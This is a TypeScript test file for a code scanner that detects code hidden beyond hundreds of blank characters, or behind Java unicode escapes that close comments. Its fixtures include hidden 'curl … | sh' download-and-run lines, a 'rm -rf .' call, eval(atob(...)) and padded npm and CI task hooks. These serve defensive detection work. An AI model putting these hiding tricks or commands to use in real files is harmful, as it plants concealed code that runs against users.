import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { assertFound, assertNothing } from '../../test/found-in.ts';
import { scanText } from '../scanner/scan-text.ts';

const FAR = ' '.repeat(220);

describe('code behind many blanks', () => {
  it('code that stands beyond the edge of an editor is found in code, JSON and YAML', async () => {
    await assertFound('out-of-view', [
      ['a.js', `module.exports = {};${FAR}eval(atob("x"));\n`],
      ['a.js', `export default a;${'\t'.repeat(40)}global.x = require;\n`],
      ['a.js', `run();\n${FAR}fetch(url);\nstop();\n`],
      ['a.js', `run();${FAR}/* a */ fetch(url);\n`],
      ['a.py', `import os${FAR};exec(code)\n`],
      ['install.sh', `echo done${FAR}; curl https://example.com | sh\n`],
      ['Makefile', `all:\n\techo done${FAR}&& curl https://example.com\n`],
      ['package.json', `{"scripts":{"test":"node a${FAR}&& node b"}}`],
      ['.vscode/tasks.json', `{"command":"echo${FAR}; node b"}`],
      ['ci.yml', `- run: npm test${FAR}|| curl x\n`],
      ['ci.yml', `- run: curl x${FAR}| sh\n`],
      ['a.js', `x();\n${' '.repeat(120)}\n${FAR}evil();\n`],
      ['a.js', `const a = 1${FAR}* evil();\n`],
      ['a.js', `const a = 1${FAR}| evil();\n`],
      ['a.js', `a();${FAR}-- b; evil();\n`],
      ['a.js', `a();${FAR}# b = evil();\n`],
      ['a.py', `x = "a"${FAR}% evil()\n`],
      ['a.py', `x = 5${FAR}// evil()\n`],
      ['a.sh', `curl https://example.com${FAR}| sh\n`],
      ['a.sh', `echo 'a\\'${FAR}; evil ''\n`],
      ['a.sh', `echo "a $(${FAR}; evil)"\n`],
      ['a.js', `x();${FAR}"";evil();\n`],
      ['a.js', `x();${FAR}/* a */"";evil();\n`],
      ['a.js', `x();${' '.repeat(150)}/**/${' '.repeat(150)}evil();\n`],
      ['a.js', `x();${FAR}/*${'a'.repeat(210)}*/evil();\n`],
      ['a.js', `x();${FAR}/*${'a'.repeat(2100)}*/evil();\n`],
      ['a.js', `x();${FAR}evil\`1\`\n`],
      ['a.js', `x()${FAR};import evil from "evil"\n`],
      ['a.py', `x()${FAR};import evil\n`],
      ['a.rb', `x()${FAR};system "rm -rf ."\n`],
      // A string or a comment seems to end there, or hides what a program makes of it.
      ['a.js', `const a = \`\${1}\n\${${FAR}evil()}\`;\n`],
      ['a.js', `const text = "a${FAR}b(c)";\n`],
      ['a.js', `const a = 1; // b${FAR}c()\n`],
      ['a.py', `x = f"{${FAR}evil()}"\n`],
      ['a.py', `"""\na\n"""\nx = 1${FAR}; evil()\n`],
    ]);
  });

  it('tables, comments behind code, padded macros, deep indentation and prose are left alone', async () => {
    await assertNothing([
      ['a.js', `const a = 1;${FAR}// see b() = c\n`],
      ['a.jl', `)${FAR}# A2 + B1(x) = 3\n`],
      ['a.js', `const a = 1;${' '.repeat(150)}b();\n`],
      ['a.py', `[1 - x,${FAR}0,${FAR}1]\n`],
      ['a.c', `#define A(x) b(x)${FAR}\\\n  c(x)\n`],
      ['a.js', `${' '.repeat(110)}a();\n${FAR}b();\n${FAR}c();\n`],
      ['a.md', `a${FAR}b(c);\n| a${FAR}| b() |\n`],
      ['a.json', `{"readme":"| a${FAR}| b |"}`],
      ['a.html', `<p>a</p>${FAR}<script>b()</script>\n`],
      ['a.js', `a();${FAR}\n${FAR}\n`],
      ...['lisp', 'el', 'clj', 'asm', 's'].map((end) => [`a.${end}`, `a${FAR}; see f(x)\n`] as const),
      ['a.f90', `a = 1${FAR}! f(x) = 1\n`],
      ['a.vb', `a${FAR}' see f(x)\n`],
      ['a.ml', `a${FAR}(* see f(x) *)\n`],
      ['a.bat', `${FAR}rem see f(x)\n`],
      ['a.lua', `a = 1${FAR}-- see f(x)\n`],
      ['a.erl', `a.${FAR}% see f(x)\n`],
      ['a.sh', `a${FAR}# see f(x) && b\n`],
      ['a.json', `{"a":"total${FAR}f(x) = 3"}`],
      ['a.yaml', `a: total${FAR}f(x) = 3\nb: 1${FAR}# c && d\n`],
    ]);
  });

  it('an escape of Java that ends a comment is found; others, and Javadoc that speaks of it, are left alone', async () => {
    await assertFound('out-of-view', [
      ['A.java', 'int a; // b \\u000a evil();\n'],
      ['A.java', 'int a; // b \\\\\\uu000D evil();\n'],
      ['A.java', '/* b *\\u002f evil(); /* */\n'],
      ['A.java', '/* b \\u002a\\u002F evil(); /* */\n'],
    ]);
    await assertNothing([
      ['A.java', '/**\n * A line ends at \\u000a.\n */\nString s = "\\\\u000a \\u0020";\n'],
      ['A.js', 'const a = "\\u000a"; // \\u000a\n'],
    ]);
  });

  it('such blanks are reported and never rewritten', async () => {
    const text = `x();${FAR}evil();\n`;
    await assertFound('out-of-view', [['a.js', text]]);
    const selection = { only: null, ignore: { techniques: [], classes: [], ranges: [] } };
    const job = { options: {}, selection, readsAllowComments: false, output: 'cleaned' } as const;
    assert.equal(scanText(text, job, { name: 'a.js' }).text, text);
  });

  it('many blanks and comments take no longer than others', async () => {
    await assertNothing([['a.js', `${' '.repeat(25)}/**/`.repeat(100_000)]]);
    await assertNothing([['a.js', `a${' '.repeat(250)}/*`.repeat(10_000)]]);
  });
});
